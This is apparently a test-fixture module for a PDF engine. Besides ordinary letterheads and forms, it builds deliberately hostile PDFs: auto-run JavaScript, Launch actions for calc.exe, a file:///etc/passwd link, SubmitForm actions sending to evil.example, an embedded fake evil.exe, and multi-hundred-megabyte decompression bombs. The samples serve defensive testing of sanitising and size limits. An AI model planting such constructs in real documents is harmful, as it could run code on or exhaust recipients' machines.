"""PDFs made by other producers, for the tests of placed pages and base PDFs (extensions.md 12):
a ReportLab canvas letterhead, a ReportLab form with fields, a page printed by headless
Chromium and one compiled by Typst (when the bench extra is installed)."""

from __future__ import annotations

import base64
import binascii
import functools
import io
import shutil
import subprocess
import tempfile
import zlib
from collections.abc import Callable, Sequence
from concurrent.futures import ProcessPoolExecutor
from functools import cache
from multiprocessing import get_context
from pathlib import Path

import pikepdf
from reportlab.lib import colors
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen.canvas import Canvas

from engine.fonts import FONT_DIR

A4 = (595.0, 842.0)


_MAKERS: dict[str, Callable[..., bytes]] = {}


def _apart(maker: Callable[..., bytes]) -> Callable[..., bytes]:
    """Run a maker that embeds a TrueType face in a process of its own. ReportLab keeps its
    fonts and their per-document subsets process-wide: the engine's DejaVu Sans and this
    module's registration of the same file would otherwise share state in a test's process
    (a later lam-alef ligature then lost its ToUnicode entry)."""
    _MAKERS[maker.__name__] = maker

    @functools.wraps(maker)
    def made(*args: object, **kwargs: object) -> bytes:
        with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as pool:
            return pool.submit(_make, maker.__name__, args, kwargs).result(timeout=120)

    return made


def _make(name: str, args: tuple, kwargs: dict) -> bytes:
    return _MAKERS[name](*args, **kwargs)


def _embedded_font() -> str:
    """A TrueType face registered with ReportLab under a name of this module's own."""
    name = "PdfSourcesDejaVu"
    if name not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(TTFont(name, str(FONT_DIR / "dejavu-sans" / "DejaVuSans.ttf")))
    return name


@cache
@_apart
def reportlab_letterhead(embedded: bool = True) -> bytes:
    """Two A4 pages drawn on a ReportLab canvas: a letterhead (company name at the top, a blue
    band at the bottom), then a page of terms. Its fonts are embedded, or the standard
    Helvetica (not embedded) when `embedded` is False."""
    font = _embedded_font() if embedded else "Helvetica"
    out = io.BytesIO()
    # ReportLab sets its initial font on every page: Helvetica unless told otherwise.
    canvas = Canvas(out, pagesize=A4, invariant=1, initialFontName=font)
    canvas.setFont(font, 20)
    canvas.drawString(50, 780, "Northwind Letterhead")
    canvas.setFont(font, 9)
    canvas.drawString(50, 765, "12 Harbour Road, Bristol")
    canvas.setFillColorRGB(0.1, 0.3, 0.7)
    canvas.rect(40, 30, 515, 16, stroke=0, fill=1)
    canvas.showPage()
    canvas.setFont(font, 14)
    canvas.drawString(60, 700, "Terms and conditions")
    canvas.showPage()
    canvas.save()
    return out.getvalue()


@cache
@_apart
def reportlab_form() -> bytes:
    """An A4 application form with AcroForm fields (ReportLab's canvas.acroForm): a text field
    'full name', a checked check box 'agree', a radio group 'colour' (blue chosen) on page 1,
    and a text field '2nd.city' holding 'Paris' on a Letter-sized page 2."""
    font = _embedded_font()
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4, invariant=1, initialFontName=font)
    form = canvas.acroForm
    canvas.setFont(font, 12)
    canvas.drawString(50, 800, "Application form")
    canvas.drawString(50, 752, "Full name:")
    form.textfield(name="full name", x=150, y=745, width=300, height=22, fontSize=11, value="")
    form.checkbox(name="agree", x=150, y=700, size=16, checked=True)
    form.radio(name="colour", value="red", x=150, y=660, size=14, selected=False)
    form.radio(name="colour", value="blue", x=200, y=660, size=14, selected=True)
    canvas.showPage()
    canvas.setPageSize((612, 792))
    canvas.setFont(font, 12)
    canvas.drawString(50, 740, "Page two")
    form.textfield(name="2nd.city", x=100, y=500, width=200, height=20, value="Paris")
    canvas.showPage()
    canvas.save()
    return out.getvalue()


@cache
@_apart
def reportlab_every_field_form() -> bytes:
    """An A4 form with a field of every kind, made with ReportLab's canvas.acroForm and finished
    with pikepdf where ReportLab has no way (a field hierarchy, a signature field, a push button,
    /Q, an auto-sized /DA, a radio group's /Opt labels, a value outside Windows-1252):

    - 'applicant' > 'name' (so 'applicant.name'): text, 'Ada Lovelace', required, tooltip
      'Full name', MaxLen 40, /Q 1 (centred), auto size (/DA 0 Tf), blue text;
    - 'notes': multiline, 'Line one\\nLine two', red border 2 pt, yellow background;
    - 'reference': read-only text 'REF-42'; 'motto': text holding 'Ωμέγα' (not Windows-1252);
    - 'agree': a checked check box; 'newsletter' an unchecked one;
    - 'size': a radio group S / M / L stacked at x 150, M chosen; 'contact': a radio group whose
      buttons' states are 0 and 1 with /Opt labels 'By e-mail', 'By phone', nothing chosen;
    - 'country': a combo box of (fr, France), (de, Germany), '' (a blank option), Germany chosen;
    - 'languages': a list box of English, Français, Ελληνικά with Ελληνικά chosen;
    - 'signature': a signature field; 'reset': a push button."""
    font = _embedded_font()
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4, invariant=1, initialFontName=font)
    form = canvas.acroForm
    canvas.setFont(font, 12)
    canvas.drawString(50, 800, "Every field")
    form.textfield(
        name="name",
        x=150,
        y=760,
        width=300,
        height=24,
        value="Ada Lovelace",
        fieldFlags="required",
        tooltip="Full name",
        maxlen=40,
    )
    form.textfield(
        name="notes",
        x=150,
        y=680,
        width=300,
        height=60,
        value="Line one\nLine two",
        fieldFlags="multiline",
        borderColor=colors.red,
        fillColor=colors.yellow,
        borderWidth=2,
        fontSize=10,
    )
    form.textfield(name="reference", x=150, y=640, width=120, height=20, value="REF-42", fieldFlags="readOnly")
    form.textfield(name="motto", x=300, y=640, width=150, height=20, value="")
    form.checkbox(name="agree", x=150, y=600, size=16, checked=True, fieldFlags="")
    form.checkbox(name="newsletter", x=200, y=600, size=16, checked=False, fieldFlags="")
    for index, value in enumerate(("S", "M", "L")):
        form.radio(
            name="size",
            value=value,
            x=150,
            y=560 - index * 20,
            size=14,
            selected=value == "M",
            fieldFlags="noToggleToOff radio",
        )
    for index in range(2):
        form.radio(
            name="contact",
            value=str(index),
            x=300 + index * 60,
            y=540,
            size=14,
            selected=False,
            fieldFlags="noToggleToOff radio",
        )
    form.choice(
        name="country",
        x=150,
        y=460,
        width=150,
        height=20,
        value="de",
        options=[("France", "fr"), ("Germany", "de"), ""],
    )
    form.listbox(
        name="languages",
        x=150,
        y=380,
        width=150,
        height=60,
        value="English",
        options=["English", "Français", "Deutsch"],
    )
    canvas.showPage()
    canvas.save()
    with pikepdf.open(io.BytesIO(out.getvalue())) as document:
        acro = document.Root.AcroForm
        page = document.pages[0].obj
        by_name = {str(field.T): field for field in acro.Fields}
        name = by_name["name"]
        name.DA = pikepdf.String("/Helv 0 Tf 0 0 1 rg")
        name.Q = 1
        parent = document.make_indirect(pikepdf.Dictionary(T=pikepdf.String("applicant"), Kids=[name]))
        name.Parent = parent
        by_name["motto"].V = pikepdf.String("Ωμέγα")
        by_name["contact"].Opt = pikepdf.Array([pikepdf.String("By e-mail"), pikepdf.String("By phone")])
        languages = by_name["languages"]
        languages.Opt = pikepdf.Array([pikepdf.String(v) for v in ("English", "Français", "Ελληνικά")])
        languages.V = pikepdf.String("Ελληνικά")
        added = []
        for entries in (
            {"T": "signature", "FT": pikepdf.Name.Sig, "Rect": [150, 300, 350, 340]},
            {"T": "reset", "FT": pikepdf.Name.Btn, "Ff": 1 << 16, "Rect": [400, 300, 480, 320]},
        ):
            widget = pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                F=4,
                P=page,
                **{key: pikepdf.String(value) if key == "T" else value for key, value in entries.items()},
            )
            added.append(document.make_indirect(widget))
        page.Annots.extend(added)
        fields = [parent if str(field.T) == "name" else field for field in acro.Fields]
        acro.Fields = pikepdf.Array(fields + added)
        finished = io.BytesIO()
        document.save(finished)
        return finished.getvalue()


def many_fields_form(count: int) -> bytes:
    """One page with `count` text fields."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4, invariant=1)
    for index in range(count):
        canvas.acroForm.textfield(
            name=f"f{index}", x=20 + (index % 20) * 28, y=20 + (index // 20) * 30, width=25, height=20
        )
    canvas.showPage()
    canvas.save()
    return out.getvalue()


CHROMIUM_PAGE = """<!doctype html><html><head><meta charset="utf-8"><style>
@page { size: A4; margin: 0 }
body { font-family: sans-serif; margin: 48px }
h1 { color: #1f4e8c; font-size: 28px }
.band { position: absolute; bottom: 40px; left: 48px; width: 500px; height: 12px; background: #1f4e8c; opacity: 0.5 }
</style></head><body><h1>Chromium Letterhead GmbH</h1><p>Hauptstrasse 1, Berlin</p><div class="band"></div>
</body></html>
"""


@cache
def chromium_letterhead() -> bytes:
    """An A4 page printed by headless Chromium (Debian's chromium), with a half-transparent band."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        raise RuntimeError("chromium is not installed")
    with tempfile.TemporaryDirectory() as directory:
        page = Path(directory) / "letterhead.html"
        page.write_text(CHROMIUM_PAGE, encoding="utf-8")
        out = Path(directory) / "out.pdf"
        command = [
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-pdf-header-footer",
            f"--user-data-dir={directory}/profile",
            f"--print-to-pdf={out}",
            page.as_uri(),
        ]
        subprocess.run(command, capture_output=True, timeout=120, check=True)
        return out.read_bytes()


@cache
def typst_letterhead() -> bytes:
    """An A4 page compiled by Typst (the bench extra's `typst`; the caller skips without it)."""
    import typst

    source = b'#set page(paper: "a4")\n= Typst Letterhead\nInvoices from the harbour office.'
    return typst.compile(source)


def rotated(pdf: bytes, degrees: int) -> bytes:
    """The PDF with /Rotate set on its first page."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.pages[0].obj.Rotate = degrees
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def with_field_entries(pdf: bytes, field: str, **entries: object) -> bytes:
    """The PDF with `entries` set on its top-level field named `field` (lists become arrays,
    str text strings), e.g. Opt=[""] or Rect=[…]."""

    def pdf_object(value: object) -> object:
        if isinstance(value, list):
            return pikepdf.Array([pdf_object(item) for item in value])
        return pikepdf.String(value) if isinstance(value, str) else value

    with pikepdf.open(io.BytesIO(pdf)) as document:
        for entry in document.Root.AcroForm.Fields:
            if str(entry.get("/T", "")) == field:
                for key, value in entries.items():
                    entry[f"/{key}"] = pdf_object(value)
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def encrypted(pdf: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(pdf)) as document:
        out = io.BytesIO()
        document.save(out, encryption=pikepdf.Encryption(owner="owner", user="secret"))
        return out.getvalue()


def pages_pdf(count: int) -> bytes:
    """A PDF of `count` small blank pages."""
    document = pikepdf.new()
    for _ in range(count):
        document.add_blank_page(page_size=(100, 100))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_blend_mode(pdf: bytes, mode: str) -> bytes:
    """The PDF with a graphics state of blend mode `mode` used on its first page."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        page = document.pages[0]
        state = pikepdf.Dictionary(Type=pikepdf.Name.ExtGState, BM=pikepdf.Name("/" + mode), ca=0.5)
        name = page.add_resource(state, pikepdf.Name.ExtGState)
        page.contents_add(document.make_stream(f"q {name} gs 0 0 1 rg 100 100 50 50 re f Q".encode()))
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def coloured_pages(*colours: tuple[float, float, float]) -> bytes:
    """A4 pages drawn on a ReportLab canvas, each filled with one colour (RGB, 0–1): which page
    a background shows can be told from one pixel."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4, invariant=1)
    for red, green, blue in colours:
        canvas.setFillColorRGB(red, green, blue)
        canvas.rect(0, 0, *A4, stroke=0, fill=1)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


HOSTILE_GOOD_LINKS = ("https://example.com/terms", "mailto:legal@example.com")


def hostile_pdf(note_appearance: bool = True) -> bytes:
    """A tagged two-page PDF whose first page carries every kind of active content a page can
    bring (extensions.md 12: what append, prepend and placing must not keep): page-open
    JavaScript, Launch, javascript: and file: links, SubmitForm, GoToR, ImportData, a Named
    action, an attached .exe, RichMedia, Screen, Sound and Movie annotations, an orphan widget,
    a good link whose action chains JavaScript (/Next), associated files, presentation steps
    whose actions pass for something else (a bogus /P, a /Type other than /Action), actions and
    an attached file as the keys of /Nums and /Names arrays (page's and form's); and what it keeps: an
    https link, a mailto link and a link to its page 2, each tagged (a Link element and its OBJR).
    Its catalog has an /OpenAction, JavaScript and an embedded file in its names tree. Its pages
    draw only shapes (no font): pdf-a takes them, unless its note has no appearance stream
    (`note_appearance`), which PDF/A-3 wants of every annotation but links and popups."""
    document = pikepdf.new()
    for _ in range(2):
        document.add_blank_page(page_size=A4)
    first, second = document.pages
    for page in (first, second):
        page.obj.Contents = document.make_stream(b"/Artifact BMC 0.2 0.4 0.8 rg 50 50 200 100 re f EMC")
    Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String

    def script(code: str) -> pikepdf.Dictionary:
        return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))

    evil = document.make_stream(b"MZ\x90\x00 not really a program", Type=Name.EmbeddedFile)
    attached = Dictionary(Type=Name.Filespec, F=String("evil.exe"), UF=String("evil.exe"), EF=Dictionary(F=evil))
    first.obj.AA = Dictionary(O=script("app.alert('page opened')"), C=script("app.alert('page closed')"))
    first.obj.AF = Array([document.make_indirect(attached)])
    # What its content draws carries some too: a form with an associated file and an action under
    # a key of its own (what a placed page's objects reach is copied).
    mark = document.make_stream(b"0 0.6 0 rg 0 0 10 10 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 10, 10])
    mark.AF = Array([document.make_indirect(attached)])
    mark.Private = script("app.alert('in a form')")
    first.obj.Resources = Dictionary(XObject=Dictionary(Mark=mark))
    # Actions a reader runs as it steps through the page, dressed up as something else: a /P (as a
    # structure element has) or a /Type of their own. And actions where a number or name tree has
    # its keys, which are not values to be checked.
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"), P=0)
    submit = Dictionary(Type=Name.StructElem, S=Name.SubmitForm, F=String("https://evil.example/steps"))
    first.obj.PresSteps = document.make_indirect(Dictionary(Type=Name.NavNode, NA=launch, PA=submit))
    for holder in (first.obj, mark):
        holder.Nums = Array([document.make_indirect(launch), 0, document.make_indirect(attached), 1])
        holder.Names = Array([script("app.alert('a key')"), String("k")])
    first.obj.Contents = document.make_stream(b"/Artifact BMC q /Mark Do Q EMC " + first.obj.Contents.read_bytes())

    def annotation(subtype: str, y: float, **entries: object) -> pikepdf.Object:
        box = Array([50, y, 250, y + 20])
        return document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=box, **entries))

    def link(y: float, action: pikepdf.Dictionary) -> pikepdf.Object:
        return annotation("Link", y, A=action, Border=Array([0, 0, 0]))

    def uri(target: str) -> pikepdf.Dictionary:
        return Dictionary(Type=Name.Action, S=Name.URI, URI=String(target))

    hostile = [
        link(700, Dictionary(Type=Name.Action, S=Name.Launch, F=String("calc.exe"))),
        link(680, uri("javascript:app.alert(1)")),
        link(660, uri("file:///etc/passwd")),
        link(640, uri(" java\tscript:app.alert(2)")),
        link(620, Dictionary(Type=Name.Action, S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
        link(600, Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        link(580, Dictionary(S=Name.Named, N=Name.Print)),
        link(560, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))),
        annotation("FileAttachment", 540, FS=attached, Name=Name.PushPin),
        annotation("RichMedia", 520, RichMediaContent=Dictionary(Assets=Dictionary())),
        annotation("Screen", 500, A=Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(3)"))),
        annotation("Sound", 480, Sound=document.make_stream(b"\x00" * 8, R=8000)),
        annotation("Movie", 460, Movie=Dictionary(F=String("movie.avi"))),
        annotation("Text", 440, Contents=String("a note"), A=script("app.alert('note')")),
    ]
    if note_appearance:
        look = document.make_stream(b"1 1 0 rg 0 0 20 20 re f", Type=Name.XObject, Subtype=Name.Form)
        look.BBox = [0, 0, 20, 20]
        hostile[-1].AP = Dictionary(N=look, D=look)
    widget = annotation(
        "Widget", 420, FT=Name.Btn, Ff=1 << 16, T=String("go"),
        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/form"), Flags=4),
    )  # fmt: skip
    chained = uri(HOSTILE_GOOD_LINKS[0])
    chained.Next = script("app.alert('chained')")
    good = [
        link(300, chained),
        link(280, uri(HOSTILE_GOOD_LINKS[1])),
        annotation("Link", 260, Dest=Array([second.obj, Name.Fit]), Border=Array([0, 0, 0])),
    ]
    first.obj.Annots = Array([*hostile, widget, *good])
    document.Root.AcroForm = Dictionary(Fields=Array([widget]))
    document.Root.OpenAction = script("app.alert('document opened')")
    scripts = Array([String("init"), document.make_indirect(script("app.alert('names tree')"))])
    files = Array([String("evil.exe"), document.make_indirect(attached)])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=scripts), EmbeddedFiles=Dictionary(Names=files))
    # Tagged: a Document of Link elements (and an Annot for the note), each with its annotation's
    # OBJR (the javascript: link's too, so that dropping it must drop its OBJR), and the parent
    # tree that finds them.
    root = document.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    top = document.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Document, P=root, K=Array()))
    nums = Array()
    for key, annotated in enumerate([hostile[1], hostile[-1], *good]):
        role = Name.Annot if annotated is hostile[-1] else Name.Link
        element = document.make_indirect(Dictionary(Type=Name.StructElem, S=role, P=top, Pg=first.obj))
        element.K = Array([Dictionary(Type=Name.OBJR, Obj=annotated, Pg=first.obj)])
        element.Alt = String("a link")
        annotated.StructParent = key
        annotated.Contents = String("a link")
        top.K.append(element)
        nums.extend([key, element])
    root.K = top
    root.ParentTree = document.make_indirect(Dictionary(Nums=nums))
    root.ParentTreeNextKey = len(nums) // 2
    document.Root.StructTreeRoot = root
    document.Root.MarkInfo = Dictionary(Marked=True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def cyclic_form_pdf(draws_itself: bool = True) -> bytes:
    """Issue 48's 850-byte PDF, as bytes: a page drawing a form XObject whose inline (direct)
    /Resources names the form itself; `draws_itself`: its content draws it too (a loop with no
    end), else it only names it (legal: a shared resource dictionary)."""
    form = b"/Fm0 Do" if draws_itself else b"0 0 10 10 re f"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Resources << /XObject << /Fm0 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        b"<< /Length 7 >>\nstream\n/Fm0 Do\nendstream",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Fm0 5 0 R >> >> "
        b"/Length %d >>\nstream\n" % len(form) + form + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out)


# --- Streams behind filter chains (decompression bombs: engine.media.stream_sizes) -------------


def lzw_encoded(data: bytes) -> bytes:
    """`data` compressed with PDF's LZW (ISO 32000-1 7.4.4, EarlyChange 1): codes of 9 to 12 bits,
    a clear code first and whenever the table fills, the end code last."""
    codes = _LzwBits()
    table = {bytes([n]): n for n in range(256)}
    codes.emit(256)
    word = b""
    for byte in data:
        longer = word + bytes([byte])
        if longer in table:
            word = longer
            continue
        codes.emit(table[word])
        table[longer] = codes.added()
        if len(table) + 2 >= 4095:  # 256 and 257 are in the table too
            codes.emit(256)
            table = {bytes([n]): n for n in range(256)}
        word = bytes([byte])
    if word:
        codes.emit(table[word])
    codes.emit(257)
    return codes.written()


def lzw_run(byte: int, count: int) -> bytes:
    """At least `count` copies of `byte` in LZW, written from the codes themselves (a run makes
    each code one byte longer than the last: some 2,700 times smaller than what it decodes to)."""
    codes = _LzwBits()
    made = 0
    while made < count:
        codes.emit(256)
        codes.emit(byte)
        made, length = made + 1, 1
        while codes.size < 4094 and made < count:
            # The entry just made (the last string and its first byte) is the next string.
            codes.emit(codes.added())
            length += 1
            made += length
    codes.emit(257)
    return codes.written()


class _LzwBits:
    """Codes written most significant bit first, at the width a reader expects (EarlyChange 1)."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.bits = self.count = 0
        self.width, self.size = 9, 258

    def emit(self, code: int) -> None:
        self.bits = (self.bits << self.width) | code
        self.count += self.width
        while self.count >= 8:
            self.count -= 8
            self.out.append((self.bits >> self.count) & 0xFF)
        self.bits &= (1 << self.count) - 1
        if code == 256:
            self.width, self.size = 9, 258

    def added(self) -> int:
        """A table entry made (the reader makes it as it reads the next code, one behind): its code."""
        self.size += 1
        if self.size + 1 > 1 << self.width and self.width < 12:
            self.width += 1
        return self.size - 1

    def written(self) -> bytes:
        return bytes(self.out + (bytes([(self.bits << (8 - self.count)) & 0xFF]) if self.count else b""))


def run_length_encoded(data: bytes) -> bytes:
    """`data` compressed with RunLength (ISO 32000-1 7.4.5)."""
    out, at = bytearray(), 0
    while at < len(data):
        end = at
        while end < len(data) and end - at < 128 and data[end] == data[at]:
            end += 1
        if end - at >= 2:
            out += bytes([257 - (end - at), data[at]])
            at = end
            continue
        end = at + 1
        while end < len(data) and end - at < 128 and not (end + 1 < len(data) and data[end] == data[end + 1]):
            end += 1
        out += bytes([end - at - 1]) + data[at:end]
        at = end
    return bytes(out + b"\x80")


ENCODERS: dict[str, Callable[[bytes], bytes]] = {
    "FlateDecode": lambda data: zlib.compress(data, 9),
    "ASCIIHexDecode": lambda data: binascii.hexlify(data) + b">",
    "ASCII85Decode": lambda data: base64.a85encode(data, wrapcol=72) + b"~>",
    "LZWDecode": lzw_encoded,
    "RunLengthDecode": run_length_encoded,
}


def encoded(data: bytes, chain: Sequence[str]) -> bytes:
    """`data` encoded so that the filters `chain` (in a stream's /Filter order) decode it."""
    for name in reversed(chain):
        data = ENCODERS[name](data)
    return data


def spaces(chain: Sequence[str], megabytes: int) -> bytes:
    """`megabytes` MB of spaces encoded for `chain`, never held whole: the last filter's part
    (what is decoded last) is made from runs, the others encode what it made."""
    count, last = megabytes * 1024 * 1024, chain[-1]
    if last == "FlateDecode":
        deflater = zlib.compressobj(9)
        block = b" " * (1 << 20)
        inner = b"".join(deflater.compress(block) for _ in range(megabytes)) + deflater.flush()
    elif last == "LZWDecode":
        inner = lzw_run(0x20, count)
    elif last == "RunLengthDecode":
        inner = b"\x81 " * (count // 128) + b"\x80"
    else:
        raise ValueError(f"no bomb of {last} alone: it decodes to less than it is")
    return encoded(inner, chain[:-1])


def bomb_pdf(chain: Sequence[str], megabytes: int = 300, image: bool = False) -> bytes:
    """A one-page PDF whose content stream decodes, through the filters `chain`, to `megabytes` MB
    of spaces (which PDFium inflates whole before it reads them); `image`: the stream says it is
    an image (/Subtype /Image, as images are not counted) while it is the page's content."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    stream = pikepdf.Stream(document, spaces(chain, megabytes))
    stream.Filter = pikepdf.Array([pikepdf.Name("/" + name) for name in chain])
    if image:
        stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        stream.Width = stream.Height = 1
        stream.ColorSpace, stream.BitsPerComponent = pikepdf.Name.DeviceGray, 8
        document.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=stream))
    document.pages[0].obj.Contents = document.make_indirect(stream)
    out = io.BytesIO()
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()
